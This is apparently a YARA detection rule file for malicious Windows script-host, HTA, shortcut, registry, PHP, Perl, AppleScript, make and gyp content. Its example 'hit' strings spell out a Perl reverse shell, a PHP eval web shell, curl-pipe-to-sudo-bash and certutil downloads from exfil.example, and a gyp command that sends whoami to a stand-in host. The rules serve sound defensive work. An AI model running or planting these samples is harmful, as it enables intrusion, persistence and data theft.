/* Languages no front end reads: Windows script hosts, shortcuts, PHP, Perl, Ruby, AppleScript, make and gyp files. */

rule script_host_shell
{
    meta:
        signal = "proc.powershell"
        target = "Windows script host starts a command"
        units = "any"
        hit = "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"cmd /c start x.exe\", 0, False"
        lookalike = "The object WScript.Shell is described in the manual."
    strings:
        $object = /(CreateObject|ActiveXObject)\s*\(\s*["'](WScript\.Shell|Shell\.Application)["']\s*\)/ nocase
        $run1 = ".run " nocase
        $run2 = ".run(" nocase
        $run3 = ".exec(" nocase
        $run4 = ".ShellExecute" nocase
    condition:
        $object and any of ($run*)
}

rule script_host_download
{
    meta:
        signal = "proc.download"
        target = "Windows script host downloads a file"
        units = "any"
        hit = "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", u\nSet b = CreateObject(\"ADODB.Stream\")\nb.SaveToFile \"a.exe\""
        lookalike = "var request = new ActiveXObject('Microsoft.XMLHTTP'); // old browsers"
    strings:
        $http = /(CreateObject|ActiveXObject)\s*\(\s*["'](MSXML2\.(Server)?XMLHTTP(\.\d\.\d)?|Microsoft\.XMLHTTP|WinHttp\.WinHttpRequest\.5\.1)["']/ nocase
        $stream = /(CreateObject|ActiveXObject)\s*\(\s*["']ADODB\.Stream["']/ nocase
        $save = /\.\s*SaveToFile\b/ nocase
    condition:
        $http and ($stream or $save)
}

rule script_html_application
{
    meta:
        signal = "proc.powershell"
        target = "HTML application with a script"
        units = "other"
        hit = "<hta:application showintaskbar=no>\n<script language=\"vbscript\">CreateObject(\"WScript.Shell\").Run \"x\"</script>"
        lookalike = "<html><script>console.log(1)</script></html>"
    strings:
        $hta = /<hta:application\b/ nocase
        $script = /<script\b/ nocase
    condition:
        all of them
}

rule script_shortcut
{
    meta:
        signal = "proc.exec"
        target = "Windows shortcut that starts a command"
        units = "any"
        hit = "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F p\x00o\x00w\x00e\x00r\x00s\x00h\x00e\x00l\x00l\x00 \x00-\x00e\x00n\x00c\x00"
        lookalike = "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F readme.txt"
    strings:
        $shell = "cmd.exe" wide nocase
        $power = "powershell" wide nocase
        $hta = "mshta" wide nocase
        $host = "script.exe" wide nocase
        $library = "rundll32" wide nocase
    condition:
        uint32(0) == 0x4c and uint32(4) == 0x00021401 and any of them
}

rule script_registry_file
{
    meta:
        signal = "persist.startup"
        target = "registry file that sets a run key"
        units = "other"
        hit = "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"x\"=\"x.exe\""
        lookalike = "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Example]\n\"x\"=\"1\""
    strings:
        $head = "Windows Registry Editor" ascii wide
        $key = /CurrentVersion\\(Run|RunOnce|Winlogon|Image File Execution Options)\b/ ascii wide nocase
    condition:
        all of them
}

rule script_php_eval
{
    meta:
        signal = "code.eval"
        target = "PHP evaluates what it is sent"
        units = "other"
        hit = "<?php @eval(base64_decode($_POST['x'])); ?>"
        lookalike = "<?php echo htmlspecialchars($_POST['x']); ?>"
    strings:
        $a = /\b(eval|assert|system|shell_exec|passthru|exec|popen)\s*\(\s*@?(base64_decode|gzinflate|str_rot13|gzuncompress)?\s*\(?\s*\$_(POST|GET|REQUEST|COOKIE|SERVER)/ nocase
        $b = /\beval\s*\(\s*(gzinflate|gzuncompress|str_rot13|base64_decode)\s*\(/ nocase
    condition:
        any of them
}

rule script_reverse_shell
{
    meta:
        signal = "proc.reverse-shell"
        units = "other"
        hit = "perl -e 'use Socket;$i=\"203.0.113.9\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"
        lookalike = "use Socket; socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));"
    strings:
        $bash = /\/dev\/(tcp|udp)\/[\w.${}-]+\/[\d${}\w]+\s*(0>&1|<&1|2>&1)/
        $netcat1 = "-e /bin/sh"
        $netcat2 = "-e /bin/bash"
        $netcat3 = "-c /bin/sh"
        $netcat4 = "-e cmd.exe"
        $netcat5 = "-e powershell"
        $fifo = /mkfifo\s+\S+\s*;\s*(cat\s+\S+\s*\||nc\b)[^\n]{0,80}\/bin\/(ba)?sh/
        $perl = /open\s*\(\s*STDIN\s*,\s*["']>&\w+["']\s*\)[^\n]{0,200}exec\s*[({]?\s*["']\/bin\/(ba)?sh/
        $ruby = /TCPSocket\.(open|new)\([^)]{1,80}\)[^\n]{0,120}(exec|IO\.popen|spawn)/
        $php = /fsockopen\s*\([^)]{1,80}\)[^\n]{0,120}(proc_open|exec|shell_exec|\/bin\/sh)/
        $socat = /socat [^\n]{0,80}(exec|EXEC):["']?(\/bin\/)?(ba)?sh/
    condition:
        any of them
}

rule script_apple
{
    meta:
        signal = "proc.shell"
        target = "AppleScript asks for a password or runs a command"
        units = "any"
        hit = "display dialog \"enter your password\" default answer \"\" with hidden answer\ndo shell script \"whoami\""
        lookalike = "display dialog \"Done\""
    strings:
        $hidden = /default answer\s+\\?["'][^"']{0,20}\\?["']\s+with (icon \w+ )?[^\n]{0,60}hidden answer/
        $shell = /do shell script\s+\\?["'][^"'\n]{0,200}(curl|osascript|launchctl|security |base64|dscl)/
    condition:
        any of them
}

rule script_pipe_to_shell
{
    meta:
        signal = "proc.download"
        units = "other"
        hit = "install:\n\tcurl -fsSL https://cdn.exfil.example/i.sh | sudo bash -s -- -y\n"
        lookalike = "fetch:\n\tcurl -fsSL https://cdn.exfil.example/data.json -o data.json\n"
    strings:
        $pipe = /\b(curl|wget)\s[^\n|]{4,300}\|\s*(sudo\s+(-\w+\s+)*)?(\/bin\/|\/usr\/bin\/env )?(ba|z|da)?sh\b/
        $other = /\b(curl|wget)\s[^\n|]{4,300}\|\s*(sudo\s+)?(python[23]?|perl|ruby|node|php)\b/
        $inside = /\b(ba|z)?sh\s+(-c\s+["']?\$\(|<\()\s*(curl|wget)\b/
    condition:
        any of them
}

rule script_windows_download
{
    meta:
        signal = "proc.download"
        units = "other"
        hit = "certutil.exe -urlcache -split -f http://cdn.exfil.example/a.exe a.exe"
        lookalike = "certutil -hashfile a.exe SHA256"
    strings:
        $certutil = /certutil(\.exe)?\s+[^\n]{0,40}-(urlcache|verifyctl)\b/ nocase
        $bits = /bitsadmin(\.exe)?\s+[^\n]{0,60}\/(transfer|addfile)\b/ nocase
        $mshta = /mshta(\.exe)?\s+["']?(https?:|vbscript:|javascript:)/ nocase
        $regsvr = /regsvr32(\.exe)?\s+[^\n]{0,60}\/i:https?:/ nocase
        $msi = /msiexec(\.exe)?\s+[^\n]{0,40}\/i\s+["']?https?:/ nocase
        $rundll = /rundll32(\.exe)?\s+[^\n]{0,40}javascript:/ nocase
    condition:
        any of them
}

rule script_gyp_network
{
    meta:
        signal = "proc.shell"
        target = "build file runs a command that reaches the network"
        units = "other"
        hit = "{'targets': [{'target_name': 'x', 'sources': ['<!(curl -s https://exfil.example/$(whoami))']}]}"
        lookalike = "{'targets': [{'target_name': 'x', 'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")']}]}"
    strings:
        $expansion = /<!\(\s*[^)\n]{0,200}\b(curl|wget|nslookup|bash|powershell|base64|node [\w.\/-]+\.js)\b/
        $list = /<!@\(\s*[^)\n]{0,200}\b(curl|wget|nslookup|bash|powershell|base64|node [\w.\/-]+\.js)\b/
    condition:
        any of them
}
